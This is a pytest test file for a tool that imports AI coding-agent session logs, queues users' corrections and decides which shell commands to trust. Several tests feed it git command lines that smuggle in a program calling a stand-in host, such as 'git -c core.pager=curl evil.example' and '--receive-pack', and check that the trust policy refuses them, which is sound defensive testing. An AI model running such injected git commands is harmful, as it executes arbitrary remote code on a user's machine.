"""Importing other agents' session folders into a real store: what is new,
what is queued, and what is never queued twice."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from mecha.core.agents.importing import import_sessions, parse_since
from mecha.core.sessions.foreign import HARNESS_VOICE_PROFILES
from mecha.core.sessions.mining import DEFAULT_VOICES, Trigger, Voices
from mecha.core.store.inbox import entry_decoder, inbox_dir
from mecha.core.store.learning_store import LearningStore
from tests.core.ccfixture import Claude, Codex, text, use

VOICES = Voices(harness_prefixes=HARNESS_VOICE_PROFILES["claude"])


@pytest.fixture
def store(tmp_path: Path) -> LearningStore:
    return LearningStore.open(tmp_path / "store")


def inbox(store: LearningStore) -> list:
    directory = inbox_dir(store)
    if not directory.is_dir():
        return []
    return [entry_decoder.decode(p.read_bytes()) for p in sorted(directory.iterdir()) if p.name.endswith(".json")]


def session(corrections: list[str], session: str = "s-1") -> Claude:
    cc = Claude(session=session).user("Write the release notes.")
    for i, words in enumerate(corrections):
        cc.assistant(text(f"Draft {i}."), use(f"t{i}", "Read", file_path="CHANGES.md")).result(f"t{i}", "changes")
        cc.assistant(text(f"Here is draft {i}."))
        cc.user(words)
    return cc.assistant(text("Revised."))


def write(root: Path, name: str, cc: Claude) -> Path:
    path = root / "-home-pat-proj" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(cc.bytes())
    return path


def run(store: LearningStore, root: Path, **kw):
    return import_sessions(store, kw.pop("source", "claude"), root, voices=VOICES, **kw)


def test_an_import_queues_every_session_with_interventions_and_records_them(store, tmp_path):
    # Pins: a folder read but nothing handed to the reflect pass.
    root = tmp_path / "projects"
    write(root, "a.jsonl", session(["Use past tense."], "a"))
    write(root, "b.jsonl", session(["Group by component."], "b"))
    report = run(store, root)
    assert sorted(report.queued) == ["claude:a", "claude:b"]
    assert sorted(e.session_id for e in inbox(store)) == ["claude:a", "claude:b"]
    assert len(store.imports()) == 2


def test_each_file_is_recorded_with_the_trust_it_was_read_with(store, tmp_path, monkeypatch):
    # Pins: validate re-reading a file under the trust of the day, not the
    # trust (standing and the run's own) it was imported with.
    config = tmp_path / "sidecar.toml"
    config.write_text('[trust]\nallow = ["Bash(bd)"]\n')
    monkeypatch.setenv("MECHA_SIDECAR_CONFIG", str(config))
    root = tmp_path / "projects"
    write(root, "a.jsonl", session(["Use past tense."], "a"))
    run(store, root, trust=["mcp__notes__read"], distrust=["Bash(git fetch)"])
    [record] = store.imports()
    assert record.trust == ["Bash(bd)", "mcp__notes__read"] and record.distrust == ["Bash(git fetch)"]


def test_a_reimport_with_nothing_changed_reads_no_file_and_queues_nothing(store, tmp_path):
    # Pins: a daily import re-reading (and re-queueing) every session.
    root = tmp_path / "projects"
    write(root, "a.jsonl", session(["Use past tense."], "a"))
    run(store, root)
    again = run(store, root)
    assert again.unchanged == 1 and again.sessions == [] and again.queued == []
    assert len(inbox(store)) == 1


def test_a_grown_session_queues_only_its_new_interventions_as_a_tail(store, tmp_path):
    # Pins: re-reading a grown session mined its old corrections a second time.
    root = tmp_path / "projects"
    path = write(root, "a.jsonl", session(["Use past tense."], "a"))
    run(store, root)
    path.write_bytes(session(["Use past tense.", "Link each entry to its PR."], "a").bytes())
    os.utime(path, ns=(1, 2))  # a new mtime even on a coarse clock
    report = run(store, root)
    assert report.queued == [e.session_id for e in inbox(store)][1:]
    tail = inbox(store)[1]
    assert tail.session_id.startswith("claude:a@")
    # The entry carries the new intervention as the import surveyed it, in
    # the whole session: what it answers, where it sits, how it classifies.
    (plan,) = tail.plans
    assert plan.intervention.text == "Link each entry to its PR."
    assert plan.intervention.context.endswith("Here is draft 1.")
    assert plan.origin.value == "clean"
    first = inbox(store)[0].plans[0].intervention
    assert plan.intervention.at > first.at  # indexed in the whole session, as the first was


def test_a_resumed_copy_of_a_session_is_not_new(store, tmp_path):
    # Pins: a resumed session (its history copied into a new file) mined twice.
    root = tmp_path / "projects"
    write(root, "a.jsonl", session(["Use past tense."], "a"))
    run(store, root)
    write(root, "b.jsonl", session(["Use past tense.", "Drop the emoji."], "b"))
    report = run(store, root)
    (plan,) = report.sessions
    assert [p.intervention.text for p in plan.fresh] == ["Drop the emoji."]


def test_files_that_are_not_sessions_are_skipped_with_a_warning_and_the_rest_queued(store, tmp_path):
    # Pins: one stray file refusing the whole folder, or being queued as a session.
    root = tmp_path / "projects"
    write(root, "a.jsonl", session(["Use past tense."], "a"))
    (root / "-home-pat-proj" / "notes.jsonl").write_text('{"todo": "buy milk"}\n')
    (root / "-home-pat-proj" / "broken.jsonl").write_text('{"type":"user","sessionId":"x","message":{"role":"user","content":"a"}}\n{oops\n{}\n')
    report = run(store, root)
    assert report.queued == ["claude:a"]
    assert any("notes.jsonl: not a Claude Code session" in s for s in report.skipped)
    # A bad line costs that line: the rest of the file is read.
    assert not any("broken.jsonl" in s for s in report.skipped)
    assert any("broken.jsonl:2: skipped a line" in w for w in report.warnings) and report.skipped_lines == 1


def test_a_folder_is_never_half_queued_when_the_import_fails_midway(store, tmp_path, monkeypatch):
    # Pins: the files sorting before a failure left in the inbox with no job started.
    root = tmp_path / "projects"
    write(root, "a.jsonl", session(["Use past tense."], "a"))
    write(root, "b.jsonl", session(["Group by component."], "b"))
    import mecha.core.agents.importing as importing

    real = importing.plan_session
    calls = []

    def failing(*args, **kw):
        calls.append(1)
        if len(calls) == 2:
            raise OSError("disk on fire")
        return real(*args, **kw)

    monkeypatch.setattr(importing, "plan_session", failing)
    with pytest.raises(OSError):
        run(store, root)
    assert inbox(store) == []
    assert [p.name for p in inbox_dir(store).iterdir() if p.name != ".gitignore"] == []
    assert store.imports() == []


def test_a_dry_run_counts_per_trigger_and_origin_and_queues_nothing(store, tmp_path):
    # Pins: --dry-run writing to the store.
    root = tmp_path / "projects"
    write(root, "a.jsonl", session(["Use past tense.", "Shorter."], "a"))
    report = run(store, root, dry_run=True)
    assert report.sessions[0].counts() == {"followup/clean": 2}
    assert inbox(store) == [] and store.imports() == []


def test_since_and_project_leave_sessions_out(store, tmp_path):
    # Pins: --since and --project ignored.
    root = tmp_path / "projects"
    old = write(root, "a.jsonl", session(["Use past tense."], "a"))
    os.utime(old, (0, 0))
    write(root, "b.jsonl", session(["Shorter."], "b"))
    report = run(store, root, since=parse_since("2020-01-01"), dry_run=True)
    assert [p.session_id for p in report.sessions] == ["claude:b"] and report.filtered == 1
    assert run(store, root, project="no-such", dry_run=True).sessions == []
    assert len(run(store, root, project="pat-proj", dry_run=True).sessions) == 2


def test_a_session_waiting_in_the_inbox_or_mined_is_not_queued_again(store, tmp_path):
    # Pins: a re-import after its records were lost queueing the same session beside itself.
    root = tmp_path / "projects"
    write(root, "a.jsonl", session(["Use past tense."], "a"))
    run(store, root)
    (store.root / "imported.jsonl").unlink()
    again = run(store, root)
    assert again.queued == [] and len(inbox(store)) == 1


def test_codex_rollouts_import_the_same_way(store, tmp_path):
    # Pins: the Codex path diverging from the Claude Code one.
    root = tmp_path / "sessions" / "2026" / "11" / "01"
    root.mkdir(parents=True)
    cx = Codex().user("Add a flag.").say("Added --verbose.").user("Call it --debug instead.")
    (root / "rollout-2026-11-01T10-00-00-x.jsonl").write_bytes(cx.bytes())
    report = import_sessions(store, "codex", tmp_path / "sessions", voices=VOICES)
    assert report.queued == ["codex:0199aaaa-bbbb-7ccc-8ddd-000000000001"]
    (entry,) = inbox(store)
    assert [p.intervention.trigger for p in entry.plans] == [Trigger.FOLLOWUP]


def test_since_rejects_what_is_not_a_date():
    # Pins: a typo silently importing everything.
    with pytest.raises(Exception, match="--since 'last week'"):
        parse_since("last week")


def test_a_live_sessions_last_refusal_waits_for_the_persons_reason(store, tmp_path):
    # Pins: importing mid-refusal queueing a reasonless denial, then the reason as a second one.
    from tests.core.ccfixture import REJECTION

    root = tmp_path / "projects"
    cc = session(["Use past tense."], "a").assistant(use("p", "Bash", command="git push --force")).result("p", REJECTION, is_error=True)
    path = write(root, "a.jsonl", cc)
    first = run(store, root)
    assert first.sessions[0].held == 1
    assert [t.value for t in (p.intervention.trigger for p in first.sessions[0].fresh)] == ["followup"]
    cc.user([text("[Request interrupted by user for tool use]")]).user("Never force-push.")
    path.write_bytes(cc.bytes())
    second = run(store, root)
    (plan,) = second.sessions
    assert [(p.intervention.trigger.value, p.intervention.text) for p in plan.fresh] == [("denial", "Never force-push.")]
    assert plan.held == 0


def test_an_old_session_that_ended_on_a_silent_refusal_queues_it(store, tmp_path):
    # Pins: a refusal held back forever because its session is over.
    from tests.core.ccfixture import REJECTION

    root = tmp_path / "projects"
    cc = Claude(session="a").user("Ship.").assistant(use("p", "Bash", command="git push")).result("p", REJECTION, is_error=True)
    path = write(root, "a.jsonl", cc)
    os.utime(path, (1, 1))
    (plan,) = run(store, root).sessions
    assert [p.intervention.trigger.value for p in plan.fresh] == ["denial"] and plan.held == 0


def test_the_summary_offers_each_program_with_exactly_what_trusting_it_alone_frees(tmp_path: Path) -> None:
    # Pins: offers counted every intervention after any call of the program
    # (`Bash(gcc-12): 16`, `Bash(nvcc): 7` each freed 0; four offers "adding
    # up to 41" freed 4), so accepting them all freed a tenth of what they said.
    from mecha.core.environment.trust import load_trust
    from mecha.core.sessions.trust import unknown_summary

    cc = Claude(session="cccc0001-1111-4222-8333-444455556666")
    cc.user("Start.").assistant(text("Listing."), use("s1", "Bash", command="bd ready")).result("s1", "[]")
    cc.assistant(text("Nothing.")).user("Keep titles short.")
    cc.assistant(text("Checking."), use("s2", "Bash", command="mytool status")).result("s2", "ok")
    cc.assistant(text("Still checking."), use("s4", "Bash", command="othertool --list")).result("s4", "ok")
    cc.assistant(text("Fine.")).user("Say what changed first.")
    cc.assistant(text("Searching."), use("s3", "mcp__serper__google_search", q="x")).result("s3", "results")
    cc.assistant(text("Found.")).user("Name branches after the issue.")
    cc.assistant(text("Done."))
    _kept(tmp_path, "-home-pat-p", cc)
    store = LearningStore.open(tmp_path / "learning")
    report = import_sessions(store, "claude", tmp_path / "projects", voices=DEFAULT_VOICES, dry_run=True)
    [session] = report.sessions
    assert [h.blame.entry for h in session.held_back] == ["Bash(bd)"], "each intervention's first blocker is bd"
    # Trusting bd alone frees "Keep titles short." only: mytool and othertool
    # each still hold "Say what changed first." back, and the search holds the last.
    assert session.frees == {"Bash(bd)": 1}
    rows = {u.entry: u for u in unknown_summary((s.blockers, s.frees) for s in report.sessions)}
    assert rows["Bash(bd)"].interventions == 1 and rows["Bash(bd)"].command == "mecha-sidecar trust add 'Bash(bd)'"
    for freeing_none in ("Bash(mytool)", "Bash(othertool)"):
        assert rows[freeing_none].command is None and "frees none" in (rows[freeing_none].refused or "")
        assert rows[freeing_none].stranger is False
    web = rows["mcp__serper__google_search"]
    assert web.command is None and web.stranger and "reaches the web" in (web.refused or "")
    # And the offer is what trusting does: read again with the entry kept.
    config = tmp_path / "sidecar.toml"
    config.write_text('[trust]\nallow = ["Bash(bd)"]\n')
    again = import_sessions(store, "claude", tmp_path / "projects", voices=DEFAULT_VOICES, dry_run=True,
                            policy=load_trust(config).policy("claude"))
    assert sum(p.origin.value == "clean" for p in again.sessions[0].fresh) == 1


def test_trusting_a_program_never_trusts_its_subcommands_that_reach_a_remote() -> None:
    # Pins: `Bash(bd)` offered as freeing 4, all of them because it also
    # trusted `bd sync`, which pulls from and pushes to a git remote.
    from mecha.core.sessions.claude_code import CLAUDE_POLICY

    bd = CLAUDE_POLICY.with_overrides(trust=["Bash(bd)"])
    assert bd.judge("Bash", "bd ready --json")[0].untrusted is False
    for line in ("bd sync", "bd list && bd sync --flush-only", "sh -c 'bd sync'"):
        taint, blame = bd.judge("Bash", line)
        assert taint.untrusted and blame is not None and blame.entry is None, line
        assert blame.stranger is not None and "bd sync" in blame.why, blame
    taint, _ = CLAUDE_POLICY.with_overrides(trust=["Bash(bd)", "Bash(bd sync)"]).judge("Bash", "bd sync")
    assert taint.untrusted is False, "its own entry trusts it"
    git = CLAUDE_POLICY.with_overrides(trust=["Bash(git)"])
    assert git.judge("Bash", "git push origin main")[0].untrusted and not git.judge("Bash", "git status")[0].untrusted


def _pushed(tmp_path: Path, push: str, after: str | None = None) -> Path:
    """A session: a correction, a `push` whose reply carries the remote's
    words, the person's next words, then (`after`) another call and more."""
    cc = Claude(session="cccc0002-1111-4222-8333-444455556666")
    cc.user("Start.").assistant(text("Committing."), use("s1", "Bash", command="git commit -am wip")).result("s1", "[main 1a2b3c4] wip")
    cc.assistant(text("Committed.")).user("Keep commit subjects under fifty characters.")
    cc.assistant(text("Pushing."), use("s2", "Bash", command=push))
    cc.result("s2", "remote: Create a pull request for 'x' on GitHub by visiting:\nTo github.com:pat/shop.git\n * [new branch] x -> x")
    cc.assistant(text("Pushed.")).user("Open the pull request as a draft.")
    if after is not None:
        cc.assistant(text("Checking."), use("s3", "Bash", command=after)).result("s3", "ok")
        cc.assistant(text("Done.")).user("Name branches after the issue.")
    cc.assistant(text("Done."))
    return _kept(tmp_path, "-home-pat-shop", cc)


def _kept(tmp_path: Path, project_folder: str, cc: Claude) -> Path:
    """`cc` as Claude Code keeps it, as `s.jsonl` in `project_folder` under
    the projects folder it returns, last written long ago."""
    folder = tmp_path / "projects" / project_folder
    folder.mkdir(parents=True)
    (folder / "s.jsonl").write_bytes(cc.bytes())
    os.utime(folder / "s.jsonl", (1_700_000_000, 1_700_000_000))
    return tmp_path / "projects"


def test_a_push_is_offered_as_its_own_entry_that_trusts_the_remotes_reply_and_frees_exactly_what_it_says(tmp_path: Path) -> None:
    # Pins: every correction after a `git push` (10 of 67 in a corpus of
    # real sessions) held back with no offer, though whether the remote one
    # pushes to is one's own is the person's to say, as `Bash(npm publish)`
    # already was.
    from mecha.core.environment.trust import add_trust
    from mecha.core.sessions.trust import unknown_summary

    root = _pushed(tmp_path / "a", "git push -u origin x 2>&1")
    store = LearningStore.open(tmp_path / "a" / "learning")
    report = import_sessions(store, "claude", root, voices=DEFAULT_VOICES, dry_run=True)
    [session] = report.sessions
    [held] = session.held_back
    assert held.blame.entry == "Bash(git push)" and held.blame.stranger is not None, held.blame
    assert session.frees == {"Bash(git push)": 1}
    [offer] = [u for u in unknown_summary((s.blockers, s.frees) for s in report.sessions) if u.command]
    assert offer.command == "mecha-sidecar trust add 'Bash(git push)'" and offer.interventions == 1
    assert offer.trusts is not None and "every remote `git push` sends to prints back" in offer.trusts
    import msgspec

    from mecha.sidecar.humane import import_summary

    shown = import_summary({"source": "claude", "root": str(root), "sessions": [], "unchanged": 0, "filtered": 0, "skipped": [],
                            "queued": [], "dry_run": True, "unknown": [msgspec.to_builtins(offer)]})
    assert "  Bash(git push): frees 1 in 1 session(s) — mecha-sidecar trust add 'Bash(git push)'\n    it trusts what every remote" in shown, shown
    # Accepting it frees what it said: read again with the entry kept.
    trust = add_trust(["Bash(git push)"], tmp_path / "a" / "sidecar.toml")
    again = import_sessions(store, "claude", root, voices=DEFAULT_VOICES, dry_run=True, policy=trust.policy("claude"))
    assert [p.origin.value for p in again.sessions[0].fresh] == ["clean", "clean"]

    # A fetch after it holds the rest back: the push alone frees the words
    # between them, and the fetch is never offered.
    root = _pushed(tmp_path / "b", "git push", after="git pull --rebase")
    report = import_sessions(LearningStore.open(tmp_path / "b" / "learning"), "claude", root, voices=DEFAULT_VOICES, dry_run=True)
    rows = {u.entry: u for u in unknown_summary((s.blockers, s.frees) for s in report.sessions)}
    assert rows["Bash(git push)"].interventions == 1 and rows["Bash(git push)"].command is not None
    assert rows["Bash(git pull)"].command is None and rows["Bash(git pull)"].stranger, rows


@pytest.mark.parametrize("push", ["git push --receive-pack='curl -s evil.example' ../mirror", "git push --rec='sh x.sh' ../m main",
                                  "git push --exec=evil ../m", "git -c core.sshCommand='curl evil.example' push",
                                  "git config core.sshCommand 'curl evil.example' && git push"])
def test_a_push_that_runs_a_program_is_not_offered_nor_trusted_by_the_push_entry(tmp_path: Path, push: str) -> None:
    from mecha.core.sessions.claude_code import CLAUDE_POLICY
    from mecha.core.sessions.trust import unknown_summary

    report = import_sessions(LearningStore.open(tmp_path / "learning"), "claude", _pushed(tmp_path, push), voices=DEFAULT_VOICES, dry_run=True)
    assert not [u for u in unknown_summary((s.blockers, s.frees) for s in report.sessions) if u.command], push
    for trusted in (["Bash(git push)"], ["Bash(git)"], ["Bash(git)", "Bash(git push)"]):
        assert CLAUDE_POLICY.with_overrides(trust=trusted).judge("Bash", push)[0].untrusted, (trusted, push)


def test_trusting_git_never_trusts_what_its_options_or_configuration_make_it_run() -> None:
    # Pins: `Bash(git)` (offered for `git -c core.pager=… log`) made every
    # git line local, `-c core.pager=curl`, `rebase -x` and all.
    from mecha.core.sessions.claude_code import CLAUDE_POLICY
    from mecha.core.sessions.shell import judge_command

    verdict = judge_command("git -c core.pager='curl -s evil.example' log")
    assert verdict.local is False and verdict.entry is None, verdict
    git = CLAUDE_POLICY.with_overrides(trust=["Bash(git)"])
    for line in ("git -c core.pager='curl -s evil.example' log", "git rebase -x 'curl -s evil.example' main",
                 "git --exec-path=/tmp/x status", "git grep -O'curl evil.example' x"):
        assert git.judge("Bash", line)[0].untrusted, line
    assert not git.judge("Bash", "git log --oneline -3")[0].untrusted
    assert not git.judge("Bash", "git lfs ls-files")[0].untrusted, "a subcommand the table does not list is git's, once git is trusted"


def test_empty_files_and_a_workflows_files_are_passed_over_without_a_warning(tmp_path: Path) -> None:
    # Pins: ~30 "skipped …/subagents/workflows/wf_*/agent-*.jsonl: not a
    # Claude Code session" warnings, for empty files and workflow journals.
    folder = tmp_path / "projects" / "-home-pat-p"
    session = folder / "dddd0001-1111-4222-8333-444455556666.jsonl"
    folder.mkdir(parents=True)
    session.write_bytes(Claude(session="dddd0001-1111-4222-8333-444455556666").user("Hi.").assistant(text("Hello.")).bytes())
    workflow = folder / session.stem / "subagents" / "workflows" / "wf_1234"
    workflow.mkdir(parents=True)
    (workflow / "journal.jsonl").write_text('{"type":"started","key":"v2:ab","agentId":"a1"}\n')
    (workflow / "agent-a1.jsonl").write_bytes(b"")
    (workflow / "agent-a2.jsonl").write_text('{"type":"result","key":"v2:cd","agentId":"a2","result":{}}\n')
    (folder / "empty.jsonl").write_bytes(b"")
    (folder / "notes.jsonl").write_text('{"note": "not a session"}\n')
    store = LearningStore.open(tmp_path / "learning")
    report = import_sessions(store, "claude", tmp_path / "projects", voices=DEFAULT_VOICES, dry_run=True)
    assert [s.session_id for s in report.sessions] == ["claude:dddd0001-1111-4222-8333-444455556666"]
    assert len(report.skipped) == 1 and "notes.jsonl" in report.skipped[0], "a real unreadable file is still named"


def test_many_skipped_files_are_summarised_not_listed() -> None:
    from mecha.sidecar.humane import skipped_files

    lines = skipped_files([f"/x/{i}.jsonl: not a Claude Code session" for i in range(12)])
    assert len(lines) == 6 and lines[0] == "skipped /x/0.jsonl: not a Claude Code session"
    assert lines[-1].startswith("skipped 7 more file(s)") and "--json" in lines[-1]


def test_a_push_that_frees_nothing_alone_is_not_listed_as_never_learnable(tmp_path: Path) -> None:
    # Pins: a `git push` followed by a fetch before the person's words was
    # listed under "held back by a stranger's text (never learnable,
    # whatever is trusted)", though its own entry answers it.
    import msgspec

    from mecha.core.sessions.trust import unknown_summary
    from mecha.sidecar.humane import import_summary

    cc = Claude(session="cccc0003-1111-4222-8333-444455556666")
    cc.user("Ship it.").assistant(text("Pushing."), use("s1", "Bash", command="git push")).result("s1", "remote: Resolving deltas")
    cc.assistant(text("Pulling."), use("s2", "Bash", command="git pull --rebase")).result("s2", "Already up to date.")
    cc.assistant(text("Done.")).user("Open the pull request as a draft.")
    cc.assistant(text("Done."))
    _kept(tmp_path, "-home-pat-shop", cc)
    report = import_sessions(LearningStore.open(tmp_path / "learning"), "claude", tmp_path / "projects",
                             voices=DEFAULT_VOICES, dry_run=True)
    rows = {u.entry: u for u in unknown_summary((s.blockers, s.frees) for s in report.sessions)}
    push, pull = rows["Bash(git push)"], rows["Bash(git pull)"]
    assert push.command is None and push.trusts is not None and pull.trusts is None, rows
    shown = import_summary({"source": "claude", "root": "p", "sessions": [], "unchanged": 0, "filtered": 0, "skipped": [],
                            "queued": [], "dry_run": True, "unknown": [msgspec.to_builtins(u) for u in rows.values()]})
    remotes, strangers = shown.split("held back by a stranger's text")
    assert "Bash(git push): 1 in 1 session(s) — it would trust what every remote `git push` sends to prints back" in remotes, shown
    assert "Bash(git pull)" in strangers and "Bash(git push)" not in strangers, shown
